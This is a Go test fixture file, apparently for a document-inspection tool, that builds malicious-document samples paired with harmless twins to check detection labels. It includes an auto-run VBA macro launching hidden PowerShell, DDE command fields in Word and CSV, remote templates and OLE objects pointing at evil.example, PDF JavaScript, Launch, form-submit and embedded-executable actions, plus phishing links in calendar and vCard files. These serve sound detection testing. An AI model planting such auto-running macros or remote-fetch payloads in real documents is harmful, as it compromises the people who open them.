package carrier

import (
	"encoding/hex"
	"maps"
	"strings"

	"sluice/inspect/child/document/cfb/cfbtest"
	"sluice/inspect/child/document/vba/vbatest"
)

const (
	mainRels  = `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">BODY</Relationships>`
	relation  = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	wordSpace = `xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
)

// docx writes a document of Word with the body given, relations of the document, and
// more parts.
func docx(kind, body, relations string, parts ...member) []byte {
	types := `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
		`<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override PartName="/word/document.xml" ContentType="` + kind + `"/></Types>`
	all := []member{{"[Content_Types].xml", types},
		{"_rels/.rels", strings.Replace(mainRels, "BODY", `<Relationship Id="rId1" Type="`+relation+`officeDocument" Target="word/document.xml"/>`, 1)},
		{"word/document.xml", `<?xml version="1.0"?><w:document ` + wordSpace + `><w:body><w:p>` + body + `</w:p></w:body></w:document>`},
		{"word/_rels/document.xml.rels", strings.Replace(mainRels, "BODY", relations, 1)}}
	return zipOf(append(all, parts...)...)
}

const (
	kindDocx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
	kindDocm = "application/vnd.ms-word.document.macroEnabled.main+xml"
	words    = `<w:r><w:t>The minutes of the meeting.</w:t></w:r>`
)

// project is a compound file with a macro project in it.
func project(storage, source string, more map[string]string) []byte {
	streams := vbatest.Streams(storage, vbatest.Module{Name: "ThisDocument", Source: source})
	maps.Copy(streams, more)
	return cfbtest.Build(streams)
}

func docm(source string) []byte {
	return docx(kindDocm, words, `<Relationship Id="rId1" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" Target="vbaProject.bin"/>`, member{"word/vbaProject.bin", string(project("", source, nil))})
}

// workbook writes one with a single sheet, of the kind and content given.
func workbook(folder, bookKind, kind, link, names, sheet string) []byte {
	return zipOf(
		member{"[Content_Types].xml", `<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Override PartName="/xl/workbook.xml" ContentType="` + bookKind + `"/><Override PartName="/xl/` + folder + `/sheet1.xml" ContentType="` + kind + `"/></Types>`},
		member{"_rels/.rels", strings.Replace(mainRels, "BODY", `<Relationship Id="rId1" Type="`+relation+`officeDocument" Target="xl/workbook.xml"/>`, 1)},
		member{"xl/workbook.xml", `<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets><sheet name="a" sheetId="1" r:id="rId1"/></sheets>` + names + `</workbook>`},
		member{"xl/_rels/workbook.xml.rels", strings.Replace(mainRels, "BODY", `<Relationship Id="rId1" Type="`+link+`" Target="`+folder+`/sheet1.xml"/>`, 1)},
		member{"xl/" + folder + "/sheet1.xml", sheet})
}

const (
	runsByItself = "Sub AutoOpen()\r\n  CreateObject(\"WScript.Shell\").Run \"cmd /c powershell -w hidden -enc AAAA\"\r\nEnd Sub\r\n"
	harmless     = "' Sums a column.\r\nFunction Total(a As Range)\r\n  Total = WorksheetFunction.Sum(a)\r\nEnd Function\r\n"
)

// action is a PDF whose catalogue has an entry more.
func action(entry string, more ...string) []byte {
	return pdf(append([]string{"<< /Type /Catalog /Pages 2 0 R " + entry + " >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
		"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"}, more...)...)
}

// documents run, fetch and hold things.
func documents() []Case {
	const (
		typeDocx = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
		typePDF  = "application/pdf"
	)
	honest := with("minutes.docx", typeDocx, docx(kindDocx, words, ""))
	paper := with("paper.pdf", typePDF, plainPDF())
	linked := `<Relationship Id="rId9" Type="` + relation + `hyperlink" Target="https://www.example.com/" TargetMode="External"/>`
	field := func(code string) string {
		return `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>` + code + `</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r>`
	}
	word := map[string]string{"WordDocument": "\xEC\xA5\xC1\x00" + strings.Repeat("\x00", 5000)}
	object := "{\\rtf1{\\object\\objupdate\\objemb{\\*\\objclass Package}{\\*\\objdata " + hex.EncodeToString([]byte("\x01\x05\x00\x00\x02\x00\x00\x00\x08\x00\x00\x00Package\x00\x00\x00\x00\x00\x00\x00\x00\x00\x10\x00\x00\x00"+strings.Repeat("\x00", 16))) + "}}}"
	return []Case{
		{Name: "macro-autorun", Want: []string{"MACRO_AUTORUN"}, Carrier: with("a.docm", "application/vnd.ms-word.document.macroEnabled.12", docm(runsByItself)), Twin: with("a.docm", "application/vnd.ms-word.document.macroEnabled.12", docm(harmless))},
		{Name: "macro-document", Want: []string{"class:macro document"}, Carrier: with("a.docm", "application/vnd.ms-word.document.macroEnabled.12", docm(harmless)), Twin: honest},
		{Name: "macro-ole", Want: []string{"MACRO_AUTORUN"}, Carrier: with("a.doc", "application/msword", project("Macros", runsByItself, word)), Twin: with("a.doc", "application/msword", project("Macros", harmless, word))},
		{Name: "macro-as-docx", Want: []string{"MACRO_AUTORUN"}, Carrier: with("a.docx", typeDocx, docm(runsByItself)), Twin: honest},
		{Name: "macro-stomped", Want: []string{"MACRO_STOMPED"},
			Carrier: with("a.doc", "application/msword", cfbtest.Build(merge(word, vbatest.Streams("Macros", vbatest.Module{Name: "ThisDocument", Source: runsByItself, Cache: strings.Repeat("compiled", 200), Stomped: true})))),
			Twin:    with("a.doc", "application/msword", cfbtest.Build(merge(word, vbatest.Streams("Macros", vbatest.Module{Name: "ThisDocument", Source: harmless, Cache: strings.Repeat("compiled", 20)}))))},
		{Name: "sheet-macro", Want: []string{"SHEET_MACRO"},
			Carrier: with("a.xlsm", "application/vnd.ms-excel.sheet.macroEnabled.12", workbook("macrosheets", "application/vnd.ms-excel.sheet.macroEnabled.main+xml", "application/vnd.ms-excel.macrosheet+xml", "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet",
				`<definedNames><definedName name="_xlnm.Auto_Open">a!$A$1</definedName></definedNames>`, `<?xml version="1.0"?><xm:macrosheet xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main" xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>EXEC("cmd /c echo inert")</f></c></row></sheetData></xm:macrosheet>`)),
			Twin: with("a.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet", workbook("worksheets", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
				"application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml", relation+"worksheet", "", `<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1"><c r="A1"><f>SUM(B1:B9)</f></c></row></sheetData></worksheet>`))},
		{Name: "dde", Want: []string{"DDE_COMMAND"}, Carrier: with("a.docx", typeDocx, docx(kindDocx, field(`DDEAUTO c:\\windows\\system32\\cmd.exe "/k echo inert"`), "")), Twin: with("a.docx", typeDocx, docx(kindDocx, field(`DATE \\@ "d MMMM yyyy"`), ""))},
		{Name: "dde-csv", Want: []string{"DDE_COMMAND"}, Carrier: with("a.csv", "text/csv", []byte("name,sum\r\n=cmd|'/c echo inert'!A0,1\r\n")), Twin: with("a.csv", "text/csv", []byte("name,sum\r\n=B1+B2,1\r\n"))},
		{Name: "remote-template", Want: []string{"REMOTE_TEMPLATE"},
			Carrier: with("a.docx", typeDocx, docx(kindDocx, words, "", member{"word/settings.xml", `<w:settings ` + wordSpace + `><w:attachedTemplate r:id="rId1"/></w:settings>`},
				member{"word/_rels/settings.xml.rels", strings.Replace(mainRels, "BODY", `<Relationship Id="rId1" Type="`+relation+`attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>`, 1)})),
			Twin: with("a.docx", typeDocx, docx(kindDocx, words, linked))},
		{Name: "remote-object", Want: []string{"REMOTE_OBJECT"}, Carrier: with("a.docx", typeDocx, docx(kindDocx, words, `<Relationship Id="rId9" Type="`+relation+`oleObject" Target="https://evil.example/a.hta" TargetMode="External"/>`)), Twin: with("a.docx", typeDocx, docx(kindDocx, words, linked))},
		{Name: "link-in-document", Want: []string{"link:https://evil.example/login"}, Carrier: with("a.docx", typeDocx, docx(kindDocx, words, strings.Replace(linked, "https://www.example.com/", "https://evil.example/login", 1))), Twin: honest},
		{Name: "rtf-object", Want: []string{"EMBEDDED_OBJECT", "OBJECT_UPDATES"}, Carrier: with("a.rtf", "application/rtf", []byte(object)), Twin: with("a.rtf", "application/rtf", []byte("{\\rtf1 The {\\b minutes} of the meeting.}"))},
		{Name: "pdf-javascript", Want: []string{"PDF_SCRIPT"}, Carrier: with("a.pdf", typePDF, action("/OpenAction << /S /JavaScript /JS (app.alert\\('inert'\\)) >>")), Twin: with("a.pdf", typePDF, action("/OpenAction [3 0 R /Fit]"))},
		{Name: "pdf-launch", Want: []string{"PDF_LAUNCH"}, Carrier: with("a.pdf", typePDF, action("/OpenAction << /S /Launch /F (cmd.exe) >>")), Twin: paper},
		{Name: "pdf-file", Want: []string{"PDF_ATTACHMENT", "class:executable"}, Carrier: with("a.pdf", typePDF, action("/Names << /EmbeddedFiles << /Names [(setup.exe) 4 0 R] >> >>", "<< /Type /Filespec /F (setup.exe) /EF << /F 5 0 R >> >>",
			"<< /Type /EmbeddedFile /Length "+digits(len(exe()), 0)+" >>\nstream\n"+exe()+"\nendstream")), Twin: paper},
		{Name: "pdf-link", Want: []string{"link:https://evil.example/login"}, Carrier: with("a.pdf", typePDF, pdf("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [<< /Type /Annot /Subtype /Link /Rect [0 0 200 200] /A << /S /URI /URI (https://evil.example/login) >> >>] >>")), Twin: paper},
		{Name: "pdf-form", Want: []string{"PDF_SUBMIT"}, Carrier: with("a.pdf", typePDF, action("/OpenAction << /S /SubmitForm /F (https://evil.example/take) >>")), Twin: paper},
		{Name: "calendar", Want: []string{"link:https://evil.example/join"},
			Carrier: with("a.ics", "text/calendar", []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll\r\nURL:https://evil.example/join\r\nDTSTART:20261124T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n")),
			Twin:    with("a.ics", "text/calendar", []byte("BEGIN:VCALENDAR\r\nVERSION:2.0\r\nBEGIN:VEVENT\r\nSUMMARY:Payroll\r\nDTSTART:20261124T100000Z\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"))},
		{Name: "card", Want: []string{"link:https://evil.example/card"}, Carrier: with("a.vcf", "text/vcard", []byte("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ann\r\nURL:https://evil.example/card\r\nEND:VCARD\r\n")),
			Twin: with("a.vcf", "text/vcard", []byte("BEGIN:VCARD\r\nVERSION:4.0\r\nFN:Ann\r\nTEL:+4900\r\nEND:VCARD\r\n"))},
	}
}

func merge(a, b map[string]string) map[string]string {
	out := maps.Clone(a)
	maps.Copy(out, b)
	return out
}
